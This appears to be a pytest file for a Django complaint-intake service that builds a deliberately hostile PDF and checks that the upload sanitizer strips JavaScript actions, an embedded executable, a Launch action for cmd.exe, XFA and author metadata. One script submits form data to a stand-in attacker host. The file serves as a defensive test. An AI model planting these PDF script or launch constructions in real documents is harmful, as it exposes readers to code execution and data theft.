"""Uploaded PDFs are cleaned as photos are: what runs, opens by itself, hides a file or names
its author is removed, the pages stay; what cannot be read or cleaned is refused with a
sentence. Every hostile PDF here is built in the test with pikepdf."""

from __future__ import annotations

import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from complaints.attachments import clean_upload
from complaints.models import Attachment
from complaints.services import intake
from lapor.errors import Invalid
from tests.complaints.images import cleaned, pdf_bytes
from tests.factories import ReportFactory

SCRIPT = b"app.alert('diretas'); this.submitForm('https://penyerang.example/curi');"
HIDDEN = b"isi berkas tersembunyi: skrip.exe"


def _js(document: pikepdf.Pdf, code: bytes = SCRIPT) -> pikepdf.Object:
    return document.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Action, S=pikepdf.Name.JavaScript, JS=document.make_stream(code),
    ))


def hostile_pdf() -> bytes:
    """Every place a PDF hides code, files and names, in one file."""
    document = pikepdf.open(io.BytesIO(pdf_bytes(b"Jalan rusak di Kaligawe")))
    root = document.Root
    page = document.pages[0].obj
    # Document level: an action on opening, the JavaScript name tree, automatic actions.
    root.OpenAction = _js(document)
    root.AA = pikepdf.Dictionary(WC=_js(document), WP=_js(document))
    embedded = document.make_stream(HIDDEN)
    embedded.Type = pikepdf.Name.EmbeddedFile
    filespec = document.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec, F=pikepdf.String("skrip.exe"),
        EF=pikepdf.Dictionary(F=embedded),
    ))
    root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("mulai"),
                                                           _js(document)])),
        EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("skrip.exe"),
                                                              filespec])),
    )
    # XFA and a field with its own keystroke script.
    widget = document.make_indirect(pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx,
        T=pikepdf.String("nama"), Rect=[100, 100, 300, 120],
        AA=pikepdf.Dictionary(K=_js(document)),
    ))
    root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([widget]),
                                       XFA=document.make_stream(b"<xdp:xdp/>"))
    # Page level: automatic actions, a link that runs a script (a direct action dictionary),
    # a link that launches a program, a file-attachment annotation.
    page.AA = pikepdf.Dictionary(O=_js(document), C=_js(document))
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 700, 300, 730],
        A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")),
    )
    launch = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 600, 300, 630],
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")),
    )
    script_link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 550, 300, 580],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("JavaScript:app.alert(2)")),
    )
    plain_link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[72, 450, 300, 480],
        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://lapor.go.id/")),
    )
    attached = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[72, 500, 90, 520],
        FS=filespec,
    )
    page.Annots = pikepdf.Array([link, launch, script_link, plain_link, attached, widget])
    # Who made it: the Info dictionary and XMP metadata.
    document.docinfo = document.make_indirect(pikepdf.Dictionary(
        Author=pikepdf.String("Budi Santoso"), Creator=pikepdf.String("Kantor Budi"),
        Producer=pikepdf.String("PemindaiRahasia 2.0"), Title=pikepdf.String("Laporan"),
    ))
    root.Metadata = document.make_stream(
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>Budi Santoso</dc:creator></x:xmpmeta>'
    )
    root.Metadata.Type = pikepdf.Name.Metadata
    root.Metadata.Subtype = pikepdf.Name.XML
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def _upload(content: bytes, name: str = "bukti.pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def _all_keys(document: pikepdf.Pdf) -> set[str]:
    keys: set[str] = set()

    def walk(obj, depth=0):
        if depth > 30:
            return
        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            for key in obj.keys():
                keys.add(key)
                child = obj[key]
                if not (isinstance(child, pikepdf.Object) and child.is_indirect):
                    walk(child, depth + 1)
            if isinstance(obj.get("/S"), pikepdf.Name):
                keys.add("action " + str(obj.get("/S")))
        elif isinstance(obj, pikepdf.Array):
            for child in obj:
                if not (isinstance(child, pikepdf.Object) and child.is_indirect):
                    walk(child, depth + 1)

    for obj in document.objects:
        walk(obj)
    return keys


def test_the_hostile_pdf_really_holds_what_it_should():
    """The control: before cleaning, every hostile part is there."""
    raw = hostile_pdf()
    with pikepdf.open(io.BytesIO(raw)) as document:
        keys = _all_keys(document)
        assert {"/OpenAction", "/AA", "/JS", "/JavaScript", "/EmbeddedFiles", "/EF", "/XFA",
                "/Metadata", "action /Launch"} <= keys
        assert str(document.docinfo.Author) == "Budi Santoso"
    assert SCRIPT in raw or b"app.alert" in raw


def test_javascript_actions_embedded_files_and_authors_are_removed():
    raw = hostile_pdf()
    cleaned = clean_upload(_upload(raw))
    assert cleaned.content_type == "application/pdf" and cleaned.extension == "pdf"
    assert cleaned.content != raw
    with pikepdf.open(io.BytesIO(cleaned.content)) as document:
        keys = _all_keys(document)
        for gone in ("/OpenAction", "/AA", "/JS", "/JavaScript", "/EmbeddedFiles", "/EF",
                     "/XFA", "/Metadata", "action /JavaScript", "action /Launch"):
            assert gone not in keys, gone
        assert "/Info" not in document.trailer
        subtypes = {str(a.Subtype) for a in document.pages[0].obj.get("/Annots", [])}
        assert "/FileAttachment" not in subtypes
        # The page itself is untouched: its text, its size, the harmless form field.
        assert len(document.pages) == 1
        assert b"Jalan rusak di Kaligawe" in document.pages[0].Contents.read_bytes()
        assert [float(v) for v in document.pages[0].MediaBox] == [0, 0, 595, 842]
        assert "/Widget" in subtypes
    for word in (b"Budi Santoso", b"Kantor Budi", b"PemindaiRahasia", HIDDEN, b"app.alert",
                 b"cmd.exe", b"xdp:xdp", b"JavaScript:"):
        assert word not in cleaned.content, word
    assert b"https://lapor.go.id/" in cleaned.content  # an ordinary link stays


def test_a_clean_pdf_keeps_its_pages():
    cleaned = clean_upload(_upload(pdf_bytes(b"Kwitansi pembayaran")))
    with pikepdf.open(io.BytesIO(cleaned.content)) as document:
        assert len(document.pages) == 1
        assert b"Kwitansi pembayaran" in document.pages[0].Contents.read_bytes()


def test_a_stored_attachment_is_the_cleaned_pdf(db):
    report = ReportFactory()
    cleaned(intake.add_attachment(report=report, upload=_upload(hostile_pdf(), "bukti-tagihan.pdf"),
                                  actor=report.reporter))
    attachment = Attachment.objects.get(report=report)
    stored = attachment.file.read()
    assert attachment.original_name == "bukti-tagihan.pdf"
    assert b"/JavaScript" not in stored and b"/OpenAction" not in stored
    assert b"Budi Santoso" not in stored and HIDDEN not in stored


def test_a_password_locked_pdf_is_refused_with_a_sentence():
    document = pikepdf.open(io.BytesIO(pdf_bytes()))
    buffer = io.BytesIO()
    document.save(buffer, encryption=pikepdf.Encryption(owner="pemilik", user="rahasia"))
    with pytest.raises(Invalid, match="dikunci dengan kata sandi") as error:
        clean_upload(_upload(buffer.getvalue(), "terkunci.pdf"))
    assert "terkunci.pdf" in str(error.value) and error.value.field == "attachments"


def test_a_pdf_that_cannot_be_parsed_is_refused():
    garbage = b"%PDF-1.7\n" + b"\x00\xff bukan pdf " * 200 + b"\n%%EOF\n"
    with pytest.raises(Invalid, match="tidak dapat dibaca sebagai PDF"):
        clean_upload(_upload(garbage, "palsu.pdf"))


def test_a_pdf_without_pages_is_refused():
    document = pikepdf.new()
    buffer = io.BytesIO()
    document.save(buffer)
    with pytest.raises(Invalid, match="tanpa halaman"):
        clean_upload(_upload(buffer.getvalue(), "kosong.pdf"))

